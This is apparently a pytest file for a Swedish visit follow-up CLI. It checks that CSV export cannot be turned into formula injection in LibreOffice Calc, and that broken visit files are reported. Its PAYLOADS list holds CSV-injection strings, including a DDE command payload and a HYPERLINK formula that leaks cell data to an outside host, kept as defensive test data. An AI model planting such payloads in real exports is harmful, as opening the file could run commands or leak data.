"""followup and history as outlets (issue 20): a CSV a spreadsheet opens as text, and a
listing that shows what it can when one visit file is broken."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from adversarial.cases import VISIT, X, edit
from click.testing import CliRunner, Result
from support import missing_tool

from nbesok.cli import cli

# Cell texts that a spreadsheet would run as formulas (OWASP, "CSV Injection").
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1;"klicka")',
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
)


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), prog_name="nbesok")


def items_visit(texts: tuple[str, ...]) -> str:
    items = "".join(
        f"  - punkt: {json.dumps(text)}\n    ansvarig: {json.dumps(text)}\n"
        "    senast: 2023-12-31\n    status: påbörjad\n"
        for text in texts
    )
    return edit(VISIT, VISIT[VISIT.index("uppföljning:\n") :], "uppföljning:\n" + items)


def spreadsheet(csv_file: Path, libreoffice: Path, out: Path) -> list[list[object]]:
    """The CSV as LibreOffice Calc opens it (semicolons, UTF-8, formulas evaluated, as
    a user double-clicking it would get), saved as .xlsx and read back by openpyxl."""
    import openpyxl

    options = "CSV:59,34,76,1,,1053,false,true,false,false,false,-1,true"
    subprocess.run(
        [
            str(libreoffice),
            f"-env:UserInstallation={(out / 'profil').as_uri()}",
            "--headless",
            f"--infilter={options}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        check=True,
        timeout=120,
    )
    converted = out / f"{csv_file.stem}.xlsx"
    if not converted.is_file():
        missing_tool(
            "testet behöver LibreOffice Calc för att öppna CSV-filen: installera "
            "libreoffice-calc-nogui (apt-get install libreoffice-calc-nogui)"
        )
    book = openpyxl.load_workbook(converted)  # formulas are kept as formulas
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def test_no_csv_cell_is_a_formula_in_a_spreadsheet(
    in_archive: Path, libreoffice: Path, tmp_path: Path
) -> None:
    (in_archive / X).write_text(items_visit(PAYLOADS), encoding="utf-8")
    listed = invoke("followup", "--per", "2024-01-01", "--format", "csv")
    assert listed.exit_code == 0, listed.output
    csv_file = tmp_path / "punkter.csv"
    csv_file.write_text(listed.stdout, encoding="utf-8", newline="")

    rows = spreadsheet(csv_file, libreoffice, tmp_path)

    cells = [cell for row in rows for cell in row if cell is not None]
    assert [cell for cell in cells if isinstance(cell, str) and cell.startswith("=")] == []
    assert all(not isinstance(cell, int | float) for cell in cells)  # nothing computed
    shown = [str(cell) for row in rows for cell in row]
    for payload in PAYLOADS:  # every text is there, as text
        assert any(payload.strip() in cell for cell in shown), payload


def test_a_broken_visit_does_not_hide_the_others_or_the_overdue_code(in_archive: Path) -> None:
    (in_archive / "visits" / "2024-01-01-trasig.yaml").write_text(
        "protokoll: x\nverksamhet: [\n", "utf-8"
    )

    strict = invoke("followup", "--strict", "--per", "2030-01-01")
    plain = invoke("followup", "--per", "2030-01-01")

    assert strict.exit_code == 3, strict.output  # overdue items: what a scheduled run watches
    assert plain.exit_code == 1, plain.output  # the broken file is still an error
    for result in (strict, plain):
        assert result.stderr.startswith("visits/2024-01-01-trasig.yaml:2:14: fel: ")
        assert "saknas i listan" in result.stderr
        assert "Idrott- och service" in result.stdout


def test_history_shows_the_visits_it_can_read(in_archive: Path) -> None:
    (in_archive / "visits" / "2024-01-01-trasig.yaml").write_text("protokoll: [\n", "utf-8")

    result = invoke("history", "Idrott- och service", "--per", "2030-01-01")

    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("visits/2024-01-01-trasig.yaml:")
    assert result.stdout.startswith("Idrott- och service: 1 besök, 2018-10-17")


@pytest.mark.parametrize("output_format", ["table", "csv"])
def test_an_allowed_number_is_listed(in_archive: Path, output_format: str) -> None:
    number = "811228-9874"
    text = items_visit((f"Ring {number}",)) + f"tillåtna_personnummer: [{number}]\n"
    (in_archive / X).write_text(text, encoding="utf-8")

    result = invoke("followup", "--per", "2024-01-01", "--format", output_format)

    assert result.exit_code == 0, result.output
    assert f"Ring {number}" in result.stdout
